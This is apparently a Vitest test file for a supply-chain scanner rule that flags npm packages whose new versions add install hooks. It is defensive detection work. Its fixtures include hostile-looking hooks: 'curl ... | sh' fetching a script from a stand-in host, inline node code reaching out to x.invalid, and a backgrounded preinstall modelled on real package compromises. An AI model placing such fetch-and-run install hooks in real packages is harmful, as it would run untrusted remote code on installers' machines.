import { describe, expect, it } from 'vitest';
import type { MetadataSignal } from '../../analysis/manifest/metadata-signals.js';
import { at, call, fileStats, packageFacts } from '../rule-test-kit.js';
import { metadataNewInstallScript as rule } from './metadata-new-install-script.js';

const added = (hook: string, command: string): MetadataSignal => ({
  kind: 'install-hook-added',
  version: '2.0.4',
  previous: '2.0.2',
  hooks: [{ hook, command }],
});

const run = (signal: MetadataSignal, files: string[] = [], code = [] as ReturnType<typeof call>[]) =>
  rule.run(packageFacts({ metadata: [signal], files: files.map((file) => fileStats(file)), code }));

describe('metadata-new-install-script', () => {
  it('is decisive when the new hook runs in the background (coa, rc, ua-parser-js)', () => {
    const findings = run(added('preinstall', 'start /B node compile.js & node compile.js'), ['compile.js']);
    expect(findings).toMatchObject([
      { kind: 'threat', rule: 'metadata-new-install-script', severity: 'high', confidence: 'high' },
    ]);
    expect(findings[0]?.message).toContain('2.0.2 ran nothing at install');
  });

  it('is decisive when the new hook downloads or pipes to a shell', () => {
    expect(run(added('postinstall', 'curl -sL https://x.invalid/p.sh | sh'))).toMatchObject([
      { severity: 'high', confidence: 'high' },
    ]);
  });

  it('is decisive for new inline code that reaches out, not for inline code that only prints', () => {
    const reaching = run(added('postinstall', `node -e "require('https').get('https://x.invalid')"`));
    expect(reaching).toMatchObject([{ confidence: 'high' }]);
    const printing = run(added('postinstall', `node -e "console.log('thanks')"`));
    expect(printing).toMatchObject([{ severity: 'high', confidence: 'medium' }]);
  });

  it('is high/medium when the new hook runs a file that reaches the network (eslint-scope 3.7.2)', () => {
    const findings = run(
      added('postinstall', 'node ./lib/build.js'),
      ['lib/build.js'],
      [call('https.get', 'network', at('lib/build.js'), ['https://paste.invalid/raw'])],
    );
    expect(findings).toMatchObject([{ severity: 'high', confidence: 'medium' }]);
  });

  it('is medium/low for a new `node install.js` whose file stays quiet', () => {
    const findings = run(
      added('postinstall', 'node install.js'),
      ['install.js'],
      [call('fs.writeFileSync', 'filesystem-write', at('install.js'))],
    );
    expect(findings).toMatchObject([{ severity: 'medium', confidence: 'low' }]);
  });

  it('is silent for a new build-helper hook and without the signal', () => {
    expect(run(added('install', 'node-gyp rebuild'))).toEqual([]);
    expect(run(added('install', 'prebuild-install || node-gyp rebuild'))).toEqual([]);
    const noSignal = packageFacts({
      manifest: { installScripts: { preinstall: 'curl -s https://x.invalid' } },
    });
    expect(rule.run(noSignal)).toEqual([]);
  });
});
